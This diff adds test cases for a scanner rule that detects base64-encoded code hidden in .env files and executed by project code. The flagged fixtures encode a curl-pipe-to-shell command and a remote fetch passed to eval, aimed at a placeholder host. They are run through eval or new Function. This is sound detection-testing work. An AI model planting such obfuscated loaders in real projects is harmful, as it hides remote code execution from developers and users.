@@ -10,6 +10,13 @@ ruleTest(rule, {
         'server.js': 'const u = process.env.API_URL;\nconst s = Buffer.from(process.env.JWT_SECRET, "base64");\n',
       },
     },
+    {
+      name: 'base64 code-like text decoded but never executed (rendered)',
+      files: {
+        '.env': 'BANNER=PGRpdj57eyByZXF1aXJlKCdmcycpIH19IGFuZCBldmFsKCBpbiBkb2NzPC9kaXY+\n',
+        'lib/banner.js': 'export const banner = atob(process.env.BANNER);\nexport const n = new Function("a", "return a + 1");\n',
+      },
+    },
   ],
   flagged: [
     {
@@ -27,6 +34,19 @@ ruleTest(rule, {
         'boot.js': "const src = atob(process.env.DEV_API_KEY.replace('nob', ''));\n",
       },
       findings: [{ file: '.env', line: 1, decoded: 'https://bs-production.up.railway.app/svg', message: /after removing the junk "nob"/ }],
+    },
+    {
+      name: 'base64 code in .env.local decoded and evaled',
+      files: {
+        '.env.local': 'NEXT_PUBLIC_ANALYTICS=cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2N1cmwgLXMgaHR0cHM6Ly9jZG4uZXhhbXBsZS5pbnZhbGlkL3ggfCBzaCcp\n',
+        'lib/analytics.js': 'export function init() {\n  if (typeof window === "undefined") eval(atob(process.env.NEXT_PUBLIC_ANALYTICS));\n}\n',
+      },
+      findings: [{ file: '.env.local', line: 1, severity: 'critical', confidence: 'high', decoded: "require('child_process').exec('curl -s https://cdn.example.invalid/x | sh')", message: /base64-encoded code, decoded and executed by lib\/analytics\.js/ }],
+    },
+    {
+      name: 'base64 code bound to a name, then run with new Function',
+      files: { '.env': 'PORT=3000\nAUTH_KEY=ZmV0Y2goJ2h0dHBzOi8vY2RuLmV4YW1wbGUuaW52YWxpZC96JykudGhlbihyPT5yLnRleHQoKSkudGhlbihldmFsKQ==\n', 'server/auth.js': 'const c = Buffer.from(process.env.AUTH_KEY, "base64").toString();\nnew Function(c)();\n' },
+      findings: [{ file: '.env', line: 2, severity: 'critical', message: /decoded and executed by server\/auth\.js/ }],
     },
   ],
 });
